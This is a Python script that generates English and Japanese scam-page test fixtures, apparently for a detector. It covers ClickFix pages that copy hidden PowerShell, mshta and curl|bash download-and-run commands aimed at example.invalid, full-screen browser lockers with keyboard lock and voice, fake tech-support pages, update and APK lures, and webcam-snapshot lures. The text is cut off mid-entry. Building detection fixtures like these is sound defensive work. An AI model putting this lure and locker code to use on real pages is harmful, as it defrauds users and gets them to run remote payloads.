"""Scam pages, written as the kits and write-ups named in each row describe them.
Phone numbers fictional, commands aimed at example.invalid, nothing fetched from the network."""
import json
from common import add, bare, esc

R_CF = "JohnHammond/recaptcha-phish"
A_CF1 = "article:meritsolutions.net"
A_CF2 = "article:techtelegraph.co.uk"
A_FILEFIX = "article:detection.fyi"
A_MEET = "article:veritispottr.blogspot.com"
A_UPD1 = "article:iaqaba.com"
A_UPD2 = "article:ironcomet.com"
A_UPD3 = "article:att.com"
A_TSS = "MicrosoftDocs/windows-itpro-docs"
A_KYOTO = "article:www-pref-kyoto-jp.cache.yimg.jp"
A_HIRO = "article:www-pref-hiroshima-lg-jp.cache.yimg.jp"
A_DDF = "article:digitaldata-forensics.com"
A_DLIS = "article:dlis.info"
A_AICHI = "article:www.pref.aichi.jp"
A_OGI = "article:ogitaka.com"
A_SB = "article:cdn.softbank.jp"
A_OC1 = "article:www.geocities.jp"
A_OC2 = "article:allabout.co.jp"
A_OC3 = "article:securitynavi.jp"
A_PUSH1 = "article:consumer.press"
A_PUSH2 = "article:www.pcsafelock.com"
A_PUSH3 = "article:www.uwindsor.ca"


def S(slug, expect, url, cat, lang, note, repo, html_text):
    add(slug, expect, url, cat, lang, note, repo, html_text)


LOCK_JS = """function grab(){try{document.documentElement.requestFullscreen();}catch(e){}
 try{navigator.keyboard&&navigator.keyboard.lock();}catch(e){}
 try{document.body.requestPointerLock&&document.body.requestPointerLock();}catch(e){}}
document.addEventListener('click',grab);document.addEventListener('keydown',function(e){e.preventDefault();grab();});
document.addEventListener('contextmenu',function(e){e.preventDefault();});
document.addEventListener('fullscreenchange',function(){if(!document.fullscreenElement)setTimeout(grab,50);});
window.onbeforeunload=function(){return '';};
for(var i=0;i<40;i++){history.pushState({},'',location.href);}
window.onpopstate=function(){history.pushState({},'',location.href);};"""

BEEP_JS = """var ac;function beep(){try{ac=ac||new (window.AudioContext||window.webkitAudioContext)();var o=ac.createOscillator(),g=ac.createGain();o.type='square';o.frequency.value=880;o.connect(g);g.connect(ac.destination);o.start();o.stop(ac.currentTime+0.4);}catch(e){}}
setInterval(beep,900);document.addEventListener('click',beep);"""


def speak_js(text, lang):
    return ("function say(){try{var u=new SpeechSynthesisUtterance(%s);u.lang=%s;u.rate=0.9;speechSynthesis.speak(u);}catch(e){}}"
            "document.addEventListener('click',say);setInterval(say,20000);" % (json.dumps(text), json.dumps(lang)))


def alert_loop_js(msg):
    return "setTimeout(function(){for(var i=0;i<3;i++){alert(%s);}},1200);" % json.dumps(msg)


def clip_js(cmd, trigger="chk"):
    return ("document.getElementById(%s).addEventListener('click',function(){navigator.clipboard.writeText(%s).catch(function(){var t=document.createElement('textarea');t.value=%s;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();});"
            "document.getElementById('steps').style.display='block';});" % (json.dumps(trigger), json.dumps(cmd), json.dumps(cmd)))


# ============================================================ ClickFix (en)
CF_CSS = "body{font-family:Roboto,Arial,sans-serif;background:#f9f9f9}.box{width:320px;margin:120px auto;background:#fff;border:1px solid #d3d3d3;border-radius:3px;padding:16px;box-shadow:0 0 4px #0002}#steps{display:none;position:fixed;inset:0;background:#0008}#steps div{background:#fff;width:440px;margin:100px auto;padding:20px}kbd{border:1px solid #999;border-radius:3px;padding:1px 5px;background:#eee}"


def cf_win(slug, lang, url, title, head, steps_html, cmd, note, repo, cat="clickfix"):
    body = ('<div class="box"><p>%s</p><label><input type="checkbox" id="chk"> %s</label><p style="font-size:10px;color:#888">reCAPTCHA<br>Privacy - Terms</p></div><div id="steps"><div>%s</div></div>'
            % (head[0], head[1], steps_html))
    S(slug, "block", url, cat, lang, note, repo, bare(lang, title, body, CF_CSS, clip_js(cmd)))


STEPS_R_EN = "<h3>Verification Steps</h3><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p>Perform the steps above to finish verification.</p>"
STEPS_X_EN = "<h3>Complete verification</h3><ol><li>Press <kbd>Windows</kbd> + <kbd>X</kbd> and choose <b>Terminal</b></li><li>Right-click or press <kbd>CTRL</kbd> + <kbd>V</kbd> to paste</li><li>Press <kbd>Enter</kbd></li></ol>"
STEPS_MAC_EN = "<h3>Verify on macOS</h3><ol><li>Press <kbd>Cmd</kbd> + <kbd>Space</kbd>, type <b>Terminal</b>, press Return</li><li>Press <kbd>Cmd</kbd> + <kbd>V</kbd></li><li>Press <kbd>Return</kbd> and enter your password if asked</li></ol>"

cf_win("en-cf-recaptcha-winr", "en", "https://mortgage-rates.example.com/compare", "Just a moment...", ("Verify you are human to continue", "I'm not a robot"),
       STEPS_R_EN, 'powershell -w hidden -nop -c "iwr https://cdn.example.invalid/v.ps1 -UseBasicParsing | iex" # I am not a robot - reCAPTCHA Verification ID: 7741',
       "Fake reCAPTCHA on a hijacked site: checkbox copies hidden PowerShell, Win+R / Ctrl+V / Enter", R_CF)
cf_win("en-cf-mshta", "en", "https://freemovies.example.net/watch/88", "Human verification", ("Please verify you are a human", "I am not a robot"),
       STEPS_R_EN, 'mshta https://verify.example.invalid/check.hta # "Cloudflare verification: I am human - Ray ID 92f1"',
       "ClickFix with mshta and a decoy comment after the command", A_CF1)
cf_win("en-cf-winx-terminal", "en", "https://docs-share.example.org/file/q3-report", "Verification required", ("Unusual activity detected. Complete the check.", "Verify you are human"),
       STEPS_X_EN, "powershell -ep bypass -c \"$u='https://pkg.example.invalid/s';iex (New-Object Net.WebClient).DownloadString($u)\"",
       "2025 variant: Win+X Terminal instead of the Run box", A_CF2)
cf_win("en-cf-macos-terminal", "en", "https://crypto-tools.example.com/download-mac", "Verify you are human", ("macOS verification required", "I'm not a robot"),
       STEPS_MAC_EN, "echo 'Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC9tIHwgYmFzaA==' | base64 -d | bash",
       "macOS Terminal ClickFix (AMOS-style): base64 | bash pasted into Terminal", A_CF2)
cf_win("en-cf-cloudflare-fake", "en", "https://cloudflare-check.example.net/?ray=8a1", "Just a moment...", ("<b>shop-deals.example.net</b> needs to review the security of your connection before proceeding.", "Verify you are human"),
       STEPS_R_EN + "<p class=small>Performance &amp; security by Cloudflare</p>", 'cmd /c "curl -s https://x.example.invalid/a.bat -o %TEMP%\\a.bat & %TEMP%\\a.bat"',
       "Fake Cloudflare Turnstile asking for Win+R paste", R_CF)
cf_win("en-cf-filefix", "en", "https://hr-portal.example.com/shared/Policy.docx", "Shared file", ("HR Policy.docx was shared with you. To open it, copy the file path and paste it into File Explorer.", "Copy path"),
       "<h3>Open the document</h3><ol><li>Press <kbd>Ctrl</kbd>+<kbd>L</kbd> in File Explorer (or click the address bar)</li><li>Paste with <kbd>Ctrl</kbd>+<kbd>V</kbd> and press Enter</li></ol><p>File path: C:\\Company\\Shared\\HR\\Policy.docx</p>",
       'powershell -c "iwr https://files.example.invalid/p.ps1|iex"                                                     # C:\\Company\\Shared\\HR\\Policy.docx',
       "FileFix: command padded with spaces so the Explorer address bar shows only a fake path", A_FILEFIX)
cf_win("en-cf-teams-error", "en", "https://teams-meet.example.com/l/join/481", "Microsoft Teams", ("<b>Microsoft Teams</b> - Audio device error. Your microphone could not be started (0x80070005).", "Fix it"),
       "<h3>How to fix</h3><ol><li>Press <kbd>Win</kbd>+<kbd>R</kbd></li><li>Paste the repair command with <kbd>Ctrl</kbd>+<kbd>V</kbd></li><li>Press <kbd>Enter</kbd>, then rejoin</li></ol>",
       'powershell -w 1 -c "iex(irm https://teams-fix.example.invalid/audio)"', "Fake Teams meeting error with 'fix it' paste steps", A_MEET)
cf_win("en-cf-zoom-sdk", "en", "https://zoom-us.example.net/j/8812345", "Zoom", ("Zoom Workplace: the meeting SDK is outdated. Update to join.", "Update SDK"),
       STEPS_R_EN.replace("Verification Steps", "Update steps"), 'mshta.exe https://zoom-sdk.example.invalid/upd.hta', "Fake Zoom 'SDK outdated' join page with Run-box paste", A_MEET)
cf_win("en-cf-meet-camera", "en", "https://meet-google.example.com/xyz-abcd-efg", "Meet", ("Google Meet: your camera is blocked by a driver problem.", "Try to fix"),
       STEPS_R_EN.replace("Verification Steps", "Fix camera"), 'powershell -nop -w h -c "irm https://cam.example.invalid/fix | iex"', "Fake Google Meet camera error (ClickFix)", A_MEET)
cf_win("en-cf-word-error", "en", "https://onedrive-docs.example.org/view/invoice", "Word Online", ("Word experienced an error trying to open the file. The 'Word Online' extension is not installed.", "How to fix"),
       STEPS_X_EN, "powershell -enc JABhAD0AJwBoAHQAdABwAHMAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQALwB3ACcA",
       "Fake Word error with encoded PowerShell", R_CF)
cf_win("en-cf-booking", "en", "https://booking-partner.example.com/review/12345", "Booking.com | Partner Hub", ("A guest complaint needs your reply. Please confirm you are not a robot to view it.", "I'm not a robot"),
       STEPS_R_EN, 'mshta https://booking-verify.example.invalid/r#  Booking.com - verification 55122', "Booking.com partner lure with ClickFix (as Microsoft described)", A_CF1)
cf_win("en-cf-dns-error", "en", "https://my-blog.example.org/post/22", "This site can't be reached", ("DNS_PROBE_FINISHED_NXDOMAIN. Your DNS cache is damaged and must be repaired.", "Fix DNS"),
       STEPS_R_EN.replace("Verification Steps", "Repair DNS"), 'cmd /c ipconfig /flushdns & powershell -w h -c "iwr https://dns.example.invalid/f|iex"',
       "Fake browser error page: 'repair DNS' paste mixes a real command with a download", A_CF2)

# ============================================================ ClickFix (ja)
STEPS_R_JA = "<h3>確認手順</h3><ol><li><kbd>Windows</kbd> キー + <kbd>R</kbd> を押す</li><li><kbd>Ctrl</kbd> + <kbd>V</kbd> を押す</li><li><kbd>Enter</kbd> を押す</li></ol><p>上記の手順で認証が完了します。</p>"
STEPS_X_JA = "<h3>認証を完了する</h3><ol><li><kbd>Windows</kbd> + <kbd>X</kbd> を押して「ターミナル」を選択</li><li><kbd>Ctrl</kbd> + <kbd>V</kbd> で貼り付け</li><li><kbd>Enter</kbd> を押す</li></ol>"
STEPS_MAC_JA = "<h3>Mac での確認</h3><ol><li><kbd>command</kbd> + <kbd>スペース</kbd> で「ターミナル」を開く</li><li><kbd>command</kbd> + <kbd>V</kbd> で貼り付け</li><li><kbd>return</kbd> を押してパスワードを入力</li></ol>"
cf_win("ja-cf-recaptcha", "ja", "https://ryokou-navi.example.com/hotel/45", "確認しています...", ("続行するには、あなたがロボットでないことを確認してください", "私はロボットではありません"),
       STEPS_R_JA, 'powershell -w hidden -c "iwr https://jp-cdn.example.invalid/k.ps1|iex" # ロボットではありません 認証ID: 3321', "日本語 偽reCAPTCHA: Win+R 貼り付け", R_CF)
cf_win("ja-cf-winx", "ja", "https://news-matome.example.net/article/991", "セキュリティ確認", ("不審なアクセスが検出されました。認証を完了してください。", "人間であることを確認"),
       STEPS_X_JA, "powershell -ep bypass -c \"iex (New-Object Net.WebClient).DownloadString('https://x.example.invalid/j')\"", "Win+X ターミナル版 ClickFix（日本語）", A_CF2)
cf_win("ja-cf-mac", "ja", "https://app-dl.example.jp.example.com/mac", "認証が必要です", ("Mac の認証が必要です", "ロボットではありません"),
       STEPS_MAC_JA, "curl -fsSL https://mac.example.invalid/i.sh | bash", "macOS ターミナルに curl|bash を貼らせる日本語版", A_CF2)
cf_win("ja-cf-cloudflare", "ja", "https://shop-sale.example.net/cf", "しばらくお待ちください...", ("<b>shop-sale.example.net</b> は続行する前に接続のセキュリティを確認する必要があります。", "人間であることを確認します"),
       STEPS_R_JA + "<p>Cloudflare によるパフォーマンスとセキュリティ</p>", 'mshta https://cf-jp.example.invalid/v.hta # Cloudflare 認証 Ray ID 8a21', "偽Cloudflare 日本語 mshta", R_CF)
cf_win("ja-cf-teams", "ja", "https://teams-kaigi.example.com/join/77", "Microsoft Teams", ("Microsoft Teams：マイクを開始できませんでした（エラー 0x80070005）", "修正する"),
       "<h3>修正方法</h3><ol><li><kbd>Win</kbd>+<kbd>R</kbd> を押す</li><li><kbd>Ctrl</kbd>+<kbd>V</kbd> で修正コマンドを貼り付け</li><li><kbd>Enter</kbd> を押して再参加</li></ol>",
       'powershell -w 1 -c "iex(irm https://fix.example.invalid/teams)"', "偽 Teams エラー 日本語", A_MEET)
cf_win("ja-cf-font", "ja", "https://kaisha-news.example.org/info", "フォントが見つかりません", ("「HoeflerText」フォントが見つからないため、このページを正しく表示できません。", "フォントを更新"),
       STEPS_R_JA.replace("確認手順", "フォント更新手順"), 'powershell -c "irm https://font.example.invalid/u|iex"', "文字化け・フォント不足を装う ClickFix", A_CF2)
cf_win("ja-cf-yuubin", "ja", "https://japanpost-check.example.com/track", "日本郵便 ご本人確認", ("再配達のお申し込みの前に、ロボットでないことを確認してください。", "確認する"),
       STEPS_R_JA, 'mshta https://jp-post.example.invalid/c.hta # 日本郵便 認証番号 4410', "配送業者を装ったロボット確認 ClickFix", A_CF1)
cf_win("ja-cf-word", "ja", "https://docs-kyouyu.example.net/view/seikyu", "Word Online", ("ファイルを開けませんでした。「Word Online」拡張機能がインストールされていません。", "修正方法"),
       STEPS_X_JA, "powershell -enc JABhAD0AJwBoAHQAdABwAHMAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQAJwA=", "偽 Word エラー（日本語）encoded PowerShell", R_CF)

# ============================================================ fake browser / app updates
UPD_CSS = "body{margin:0;font-family:Arial,sans-serif}.ov{position:fixed;inset:0;background:#fff;z-index:9;display:flex;align-items:center;justify-content:center;flex-direction:column;text-align:center}.btn{background:#1a73e8;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none;font-size:18px}"


def upd(slug, lang, url, title, brand, h, text, fname, note, repo, under=""):
    body = ('%s<div class="ov"><div style="font-size:28px;font-weight:bold">%s</div><h1>%s</h1><p>%s</p><a class="btn" id="u" href="%s" download>%s</a><p style="font-size:12px;color:#777">%s</p></div>'
            % (under, brand, h, text[0], fname, text[1], text[2]))
    js = "setTimeout(function(){document.getElementById('u').click();},4000);"
    S(slug, "block", url, "app-install-lure", lang, note, repo, bare(lang, title, body, UPD_CSS, js))


upd("en-upd-chrome", "en", "https://gardening-tips.example.com/roses/", "Update Chrome", "Google Chrome",
    "Your version of Chrome is out of date", ["An error occurred in Chrome's automatic update. Please install the update package manually to continue browsing.", "Update Chrome", "Recommended - version 131.0.6778.86"],
    "ChromeUpdate.zip", "ClearFake-style full-page overlay injected into a hacked blog; auto download after 4 s", A_UPD1,
    under="<article><h1>How to prune roses in winter</h1><p>Cut just above an outward-facing bud.</p></article>")
upd("en-upd-edge", "en", "https://local-news.example.org/city/", "Microsoft Edge update", "Microsoft Edge",
    "Critical security update required", ["Your browser is missing a critical security update. Websites may not display correctly.", "Update now", "Microsoft Corporation"],
    "MicrosoftEdgeUpdate.msix", "Fake Edge update overlay (msix)", A_UPD2)
upd("en-upd-firefox", "en", "https://forum-cars.example.net/t/4411", "Firefox update", "Firefox",
    "Firefox needs an update", ["This version of Firefox is no longer supported. Download the latest version to keep browsing safely.", "Download Firefox", "Mozilla"],
    "Firefox_Update.exe", "Fake Firefox update page", A_UPD3)
upd("en-upd-zoom", "en", "https://zoom-meeting.example.com/j/99123", "Zoom - update required", "zoom",
    "Update required to join this meeting", ["Your Zoom Workplace version is no longer supported. Install the update and the meeting will open automatically.", "Download update", "Zoom Communications"],
    "ZoomUpdate_6.3.exe", "Fake Zoom update (2026 meeting-lure campaign installing RMM tools)", A_MEET)
upd("en-upd-teams", "en", "https://teams-invite.example.org/meetup", "Microsoft Teams", "Microsoft Teams",
    "You're missing out!", ["The meeting organizer requires the latest Teams desktop app. Install it to join.", "Install Teams", "Microsoft"],
    "MSTeamsSetup_x64.exe", "Fake Teams installer page from a meeting invitation", A_MEET)
upd("en-upd-video-codec", "en", "https://stream-hd.example.net/movie/77", "Video player update", "HD Player",
    "Video can't be played", ["Your media player plugin is outdated. Update to watch in HD.", "Update player", "Version 11.2"],
    "HDPlayerSetup.exe", "Fake video-codec update on a streaming page", A_UPD2)
upd("ja-upd-chrome", "ja", "https://ryouri-blog.example.com/oden/", "Chrome の更新", "Google Chrome",
    "お使いの Chrome は最新ではありません", ["Chrome の自動更新でエラーが発生しました。更新パッケージを手動でインストールしてください。", "Chrome を更新", "推奨バージョン 131.0"],
    "ChromeUpdate.zip", "改ざんブログに注入された偽 Chrome 更新（日本語）", A_UPD1, under="<article><h1>おでんの作り方</h1></article>")
upd("ja-upd-edge", "ja", "https://chiiki-news.example.org/", "Microsoft Edge 更新", "Microsoft Edge",
    "重要なセキュリティ更新が必要です", ["ブラウザに重要なセキュリティ更新が適用されていません。今すぐ更新してください。", "今すぐ更新", "Microsoft Corporation"],
    "MicrosoftEdgeUpdate.exe", "偽 Edge 更新（日本語）", A_UPD2)
upd("ja-upd-windows", "ja", "https://pc-help.example.net/", "Windows Update", "Windows Update",
    "Windows の重要な更新プログラムがあります", ["更新を適用しないと、お使いのPCがウイルスに感染する危険があります。", "更新プログラムをダウンロード", "KB5044284"],
    "WindowsUpdate_KB5044284.exe", "偽 Windows Update ページ（ウイルス感染の脅し付き）", A_UPD3)
upd("ja-upd-zoom", "ja", "https://zoom-kaigi.example.com/j/81", "Zoom - 更新が必要です", "zoom",
    "このミーティングに参加するには更新が必要です", ["お使いの Zoom はサポートが終了しました。更新するとミーティングが自動的に開きます。", "アップデートをダウンロード", "Zoom"],
    "ZoomUpdate.exe", "偽 Zoom 更新（日本語）", A_MEET)

# ============================================================ fake alerts / lockers (en)
FA_CSS = "body{margin:0;font-family:'Segoe UI',Arial,sans-serif;background:#0078d7;color:#fff}.win{position:fixed;top:12%;left:50%;transform:translateX(-50%);width:560px;background:#fff;color:#222;box-shadow:0 0 30px #000a}.tb{background:#1e1e1e;color:#fff;padding:6px 10px;font-size:13px}.c{padding:18px}.ph{font-size:26px;color:#c00;font-weight:bold}.bar{position:fixed;bottom:0;left:0;right:0;background:#111;padding:8px;text-align:center}"


def locker(slug, lang, url, title, tb, body_html, phone_line, js_extra, note, repo, cat="fullscreen-lock", bg=""):
    body = ('%s<div class="win"><div class="tb">%s</div><div class="c">%s<p class="ph">%s</p></div></div><div class="bar">%s</div>'
            % (bg, tb, body_html, phone_line, phone_line))
    S(slug, "block", url, cat, lang, note, repo, bare(lang, title, body, FA_CSS, LOCK_JS + "\n" + js_extra))


locker("en-lock-defender-voice", "en", "https://wdsecurity.example.net/?lp=ms47", "Windows Defender - Security Warning", "Windows Defender Security Center",
       "<h2>Access to this PC has been blocked for security reasons</h2><p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised: email credentials, banking passwords, Facebook login, pictures &amp; documents.</p><p>Windows Defender Scan has found potentially unwanted Adware on this device that can steal your passwords, online identity, financial information, personal files.</p><p>Closing this window will put your personal information at risk and lead to a suspension of your Windows registration.</p>",
       "Call Windows Support: 1-800-555-0134 (Toll Free)", BEEP_JS + speak_js("Important security message. Your computer has been blocked. Please call Windows support immediately. Do not restart your computer.", "en-US"),
       "Fake Defender full-screen locker with voice, beeps, keyboard and pointer lock, history flood", A_TSS)
locker("en-lock-apple-safari", "en", "https://apple-care.example.com/warning", "Apple Security Alert", "Safari - Apple Security",
       "<h2>Your iPhone has been compromised!</h2><p>We have detected that your Safari browser has been hijacked by a virus (Pegasus.iOS). Your contacts, photos and Apple Pay data are at risk.</p><p>Do not ignore this critical alert. If you close this page, your device access will be disabled.</p>",
       "Apple Support: +1-888-555-0172", BEEP_JS, "Fake Apple/Safari alert with phone, beep", A_TSS, cat="phone-lure")
locker("en-lock-norton-expired", "en", "https://norton-renew.example.org/scan", "Norton Security - Subscription Expired", "Norton 360",
       "<h2>Your PC is infected with 5 viruses!</h2><p>Your Norton subscription expired today. Unprotected PCs are 93% more vulnerable to malware.</p><table style='color:#222'><tr><td>Trojan.Win32.Agent</td><td>High</td></tr><tr><td>Spyware.PasswordStealer</td><td>Critical</td></tr></table><p>Renew now to remove the threats.</p>",
       "Renewal help desk: 1-800-555-0188", "var n=0;setInterval(function(){document.title='('+(++n%6)+') Norton Alert';},700);", "Fake Norton scan/expiry page with a phone number (affiliate scam)", A_TSS, cat="fake-alert")
locker("en-lock-mcafee-scan", "en", "https://mcafee-scan.example.net/", "McAfee | Total Protection", "McAfee Total Protection",
       "<h2>Quick Scan</h2><p id='scan'>Scanning C:\\Windows\\System32 ...</p><p>Result: <b>4 threats found</b> - your PC is at risk. Your subscription has expired.</p><a href='https://offer.example.com/renew' style='background:#c00;color:#fff;padding:10px'>Proceed</a>",
       "", "var f=['C:\\\\Windows\\\\explorer.exe','C:\\\\Users\\\\Public\\\\Documents','C:\\\\Program Files\\\\Common'];var i=0;setInterval(function(){document.getElementById('scan').textContent='Scanning '+f[i++%3];},300);",
       "Fake McAfee in-browser scan pushing renewal (no phone)", A_TSS, cat="fake-alert")
locker("en-lock-bsod", "en", "https://err-0x80.example.com/", "Windows", "",
       "<h1 style='font-size:90px;margin:0'>:(</h1><p>Your PC ran into a problem and needs to restart. CRITICAL_PROCESS_DIED</p><p>Error code: 0x80073AFD. Your files and banking data may be exposed.</p>",
       "For help call Microsoft Technical Support: 1-855-555-0111", BEEP_JS, "Fake blue screen in the browser with phone", A_TSS, bg="<style>body{background:#0078d7}</style>")
locker("en-lock-alertloop", "en", "https://security-warning.example.org/", "Security Warning", "Microsoft Edge",
       "<h2>Edge has blocked this page</h2><p>Threat detected: Trojan:Win32/Wacatac. Your IP address 203.0.113.7 was used for suspicious activity.</p>",
       "Contact support immediately 1-844-555-0190", alert_loop_js("** WARNING ** Your computer is infected. Call 1-844-555-0190 now. Do not close this window."),
       "Alert-loop locker pretending to be Edge's blocker", A_TSS, cat="phone-lure")
locker("en-lock-print-loop", "en", "https://driver-update.example.net/x", "System error", "Windows Security",
       "<h2>System Error 268D3</h2><p>Suspicious activity from your IP. Please contact a certified technician.</p>", "Technician helpline: 1-877-555-0145",
       "setInterval(function(){try{window.print();}catch(e){}},3000);", "Print-dialog loop locker", A_TSS)
locker("en-lock-paypal-fraud", "en", "https://paypal-resolution.example.com/case", "PayPal - Suspicious payment", "PayPal Security",
       "<h2>Unauthorized payment of $499.99 to CryptoExchange LLC</h2><p>If you did not make this payment, your account and computer may be compromised. Call our fraud desk to cancel within 30 minutes.</p><p id='t'></p>",
       "PayPal Fraud Desk: 1-888-555-0163", "var s=1800;setInterval(function(){s--;document.getElementById('t').textContent='Payment will be completed in '+Math.floor(s/60)+':'+('0'+s%60).slice(-2);},1000);",
       "Fake PayPal invoice/fraud page with countdown and phone", A_TSS, cat="phone-lure")
locker("en-lock-geeksquad", "en", "https://geeksquad-renewal.example.org/inv", "Geek Squad Invoice", "Geek Squad",
       "<h2>Your Geek Squad Total Protection has been renewed: $389.99</h2><p>The amount will be charged to your account today. To cancel and get a refund, call our billing department.</p>",
       "Billing: 1-800-555-0176", "", "Fake renewal invoice (refund scam) with phone", A_TSS, cat="phone-lure")
locker("en-lock-canvas", "en", "https://video-stream.example.net/play", "Windows Security", "Windows Security",
       "<canvas id='cv' width='520' height='120'></canvas><p>Do not restart. Do not close.</p>", "",
       "var x=document.getElementById('cv').getContext('2d');x.fillStyle='#c00';x.font='20px Segoe UI';x.fillText('VIRUS ALERT - call 1-833-555-0152',10,40);x.fillText('Your PC is locked',10,80);"
       + BEEP_JS, "Alert text drawn only on a canvas (number not in the DOM)", A_TSS)

# ============================================================ notification lures (en)
PUSH_CSS = "body{margin:0;font-family:Arial;background:#222;color:#fff;text-align:center}.big{font-size:34px;margin-top:120px}.arrow{position:fixed;top:10px;left:300px;font-size:60px}"


def pushlure(slug, lang, url, title, big, small, note, repo, extra_js=""):
    body = '<div class="arrow">&#8598;</div><div class="big">%s</div><p>%s</p><img src="robot.png" alt="">' % (big, small)
    js = "Notification.requestPermission().then(function(p){if(p==='granted'){location.href='https://next.example.com/?sub=1';}});" + extra_js
    S(slug, "alert", url, "notification-abuse", lang, note, repo, bare(lang, title, body, PUSH_CSS, js))


pushlure("en-push-robot", "en", "https://xk7.example.com/?pl=12", "Press Allow", "Click <b>Allow</b> if you are not a robot", "", "'Click Allow if you are not a robot' notification lure", A_PUSH1)
pushlure("en-push-video", "en", "https://stream-now.example.net/v/19", "Video", "Press <b>Allow</b> to watch the video", "The video is ready. Click Allow to continue.", "Notification lure on a fake video player", A_PUSH2)
pushlure("en-push-age", "en", "https://dating-near.example.org/", "Age check", "Click <b>Allow</b> to confirm that you are 18+", "", "Age-check notification lure", A_PUSH1)
pushlure("en-push-download", "en", "https://files-get.example.com/dl/8", "Your file is ready", "Your file is ready to download", "Click <b>Allow</b> to download", "Download-ready notification lure", A_PUSH2)
pushlure("en-push-virus", "en", "https://sec-check.example.net/", "Security check", "Your device may be infected", "Click <b>Allow</b> to enable virus protection notifications", "Notification lure with virus alarm", A_PUSH3)
pushlure("en-push-prize", "en", "https://winner-today.example.org/", "Congratulations!", "You have been selected!", "Click <b>Allow</b> to claim your iPhone 17", "Prize notification lure", A_PUSH3)

# ============================================================ camera / permission lures (en)
CAMLURE = """document.getElementById('go').addEventListener('click',function(){navigator.mediaDevices.getUserMedia({video:true}).then(function(s){var v=document.createElement('video');v.srcObject=s;v.play();setTimeout(function(){var c=document.createElement('canvas');c.width=320;c.height=240;c.getContext('2d').drawImage(v,0,0);localStorage.setItem('snap',c.toDataURL());},1500);});});"""


def camlure(slug, lang, url, title, h, p, btn, note, repo):
    S(slug, "alert", url, "other", lang, note, repo, bare(lang, title, '<div style="text-align:center;margin-top:80px;font-family:Arial"><h1>%s</h1><p>%s</p><button id="go" style="font-size:20px">%s</button></div>' % (h, p, btn), "", CAMLURE))


camlure("en-cam-age-verify", "en", "https://adult-verify.example.com/", "Age verification", "Face age verification", "To comply with the law, we must verify your age with your camera. No ID needed.", "Start camera", "Camera 'age verification' lure that snapshots the face", "techchipnet/CamPhish")
camlure("en-cam-proctor", "en", "https://exam-proctor.example.net/start", "Exam proctoring", "Online exam: webcam check", "Your exam will be cancelled if the webcam check fails.", "Check webcam", "Fake proctoring camera check", "techchipnet/CamPhish")
camlure("en-cam-giftcard", "en", "https://free-giftcard.example.org/", "Claim reward", "Verify you're a real person to get your $100 gift card", "Look into the camera for 3 seconds.", "Verify with camera", "Gift card camera lure", "techchipnet/CamPhish")

# ============================================================ APK / app lures (en)
APK_CSS = "body{font-family:Arial;margin:0}header{background:#333366;color:#fff;padding:10px}.c{padding:20px}.btn{display:block;background:#ff9900;color:#000;padding:14px;text-align:center;text-decoration:none;font-size:18px}"


def apk(slug, lang, url, title, brand, text, fname, note, repo, expect="block"):
    body = '<header>%s</header><div class="c">%s<a class="btn" id="a" href="%s">%s</a></div>' % (brand, text[0], fname, text[1])
    js = "setTimeout(function(){location.href=%s;},5000);" % json.dumps(fname)
    S(slug, expect, url, "app-install-lure", lang, note, repo, bare(lang, title, body, APK_CSS, js))


apk("en-apk-usps", "en", "https://usps-redeliver.example.com/track", "USPS - Redelivery", "USPS Tracking",
    ["<p>Your package could not be delivered due to an incomplete address. Install the USPS Tracking app to reschedule within 24 hours or it will be returned.</p><p>Android: after download tap 'Settings' &gt; 'Allow from this source'.</p>", "Download app"],
    "usps-tracking.apk", "Fake delivery SMS landing page pushing an APK", A_AICHI)
apk("en-apk-bank-security", "en", "https://secure-bank-app.example.net/", "Bank Security Update", "First National Bank",
    ["<p>Your online banking has been restricted. Install our new Security Shield app to restore access.</p>", "Install Security Shield"],
    "bankshield.apk", "Fake bank security app APK lure", A_SB)
apk("en-apk-voicemail", "en", "https://voicemail-new.example.org/v/4411", "New voicemail", "Voicemail",
    ["<p>You have 1 new voicemail (0:42). To listen, install the Voicemail Player.</p>", "Install player"], "voicemail.apk", "FluBot-style voicemail APK lure", A_SB)
apk("en-apk-chrome-update", "en", "https://android-update.example.com/", "Chrome update", "Google Chrome",
    ["<p>Your Chrome for Android is out of date and cannot open this page. Install the update.</p>", "Update Chrome"], "chrome_update.apk", "Fake Chrome APK update (as the SoftBank notice describes)", A_SB)

# ============================================================ サポート詐欺 (ja)
def jlocker(slug, url, title, tb, body_html, phone_line, js_extra, note, repo, cat="fullscreen-lock"):
    locker(slug, "ja", url, title, tb, body_html, phone_line, js_extra, note, repo, cat)


VOICE_JA = "重要なお知らせです。お使いのコンピューターはウイルスに感染しています。コンピューターを再起動しないでください。今すぐサポートセンターにお電話ください。"
jlocker("ja-lock-defender-voice", "https://wd-hogo.example.net/?id=22", "Windows Defender セキュリティ警告", "Windows Defender セキュリティ センター",
        "<h2>セキュリティ上の理由から、この PC へのアクセスはブロックされています</h2><p>お使いのコンピューターがトロイの木馬スパイウェアに感染していることが検出されました。次のデータが盗まれています：メールの認証情報、銀行のパスワード、写真・文書。</p><p>このウィンドウを閉じると個人情報が危険にさらされ、Windows の登録が停止されます。</p>",
        "Windows サポートに電話してください：050-0000-4127（通話無料・日本語対応）", BEEP_JS + speak_js(VOICE_JA, "ja-JP"),
        "日本語サポート詐欺: 全画面・キーボードロック・警告音・音声読み上げ", A_KYOTO)
jlocker("ja-lock-trojan", "https://pc-keikoku.example.com/", "トロイの木馬スパイウェアアラート", "Microsoft Edge",
        "<h2>トロイの木馬スパイウェアアラート</h2><p>お使いのPCでトロイの木馬型スパイウェアが検出されました。ハッキングされている可能性があります。</p><p>エラーコード：#0x268d3</p>",
        "マイクロソフト サポート：0120-000-781", BEEP_JS, "『トロイの木馬スパイウェアアラート』警告音付き", A_DDF)
jlocker("ja-lock-adult", "https://av-douga.example.net/warn", "警告 - 違法なアダルトサイト閲覧", "Windows セキュリティ",
        "<h2>アダルトサイトの閲覧により、お使いのPCはロックされました</h2><p>違法なポルノサイトの閲覧が記録されました。IPアドレス：203.0.113.54</p><p>ロック解除のためサポートセンターにご連絡ください。</p>",
